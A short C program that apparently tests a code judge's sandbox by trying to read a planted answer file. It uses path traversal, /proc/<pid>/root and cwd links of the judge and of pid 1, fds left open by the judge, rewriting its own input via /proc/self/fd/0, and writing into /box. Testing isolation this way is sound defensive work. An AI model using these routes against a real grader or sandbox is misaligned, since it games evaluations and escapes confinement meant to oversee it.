/* Looks for the answer file: at its real path, through every way of /proc out of the root, and through the fds that the
 * judge left open. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void tried(const char *what, int got)
{
    if (got)
        printf("GOT: %s\n", what);
    else
        printf("refused: %s: %s\n", what, strerror(errno));
}

static int readable(const char *path)
{
    char byte;
    int fd = open(path, O_RDONLY);
    return fd >= 0 && read(fd, &byte, 1) == 1;
}

int main(void)
{
    const char *answer = getenv("BAIT_ANSWER"), *pids = getenv("BAIT_PIDS");
    int judge = atoi(pids);
    char path[8192];

    tried(answer, readable(answer));
    snprintf(path, sizeof path, "../../../../../../../..%s", answer);
    tried("dot dot", readable(path));
    snprintf(path, sizeof path, "/proc/%d/root%s", judge, answer);
    tried("the judge's root in /proc", readable(path));
    snprintf(path, sizeof path, "/proc/1/root%s", answer);
    tried("the root of pid 1 in /proc", readable(path));
    snprintf(path, sizeof path, "/proc/%d/cwd", judge);
    tried("the judge's cwd in /proc", opendir(path) != NULL);

    /* fd 0 is the input; a way from it, or from any fd, to a directory outside would do. */
    for (int fd = 0; fd < 3; fd++)
        tried("openat from an fd of ours", openat(fd, "..", O_RDONLY) >= 0);

    int leaks = 0;
    for (int fd = 3; fd < 4096; fd++)
        leaks += fcntl(fd, F_GETFD) >= 0;
    errno = EBADF;
    tried("an fd that the judge left open", leaks > 0);

    /* The next run's input, by rewriting this one's. */
    int input = open("/proc/self/fd/0", O_RDWR);
    tried("writing into the input", input >= 0 && write(input, "1\n1\n", 4) == 4);
    tried("writing into the box", open("/box/program", O_WRONLY) >= 0 || unlink("/box/program") == 0 ||
                                      creat("/box/x", 0644) >= 0);
    puts("done");
    return 0;
}
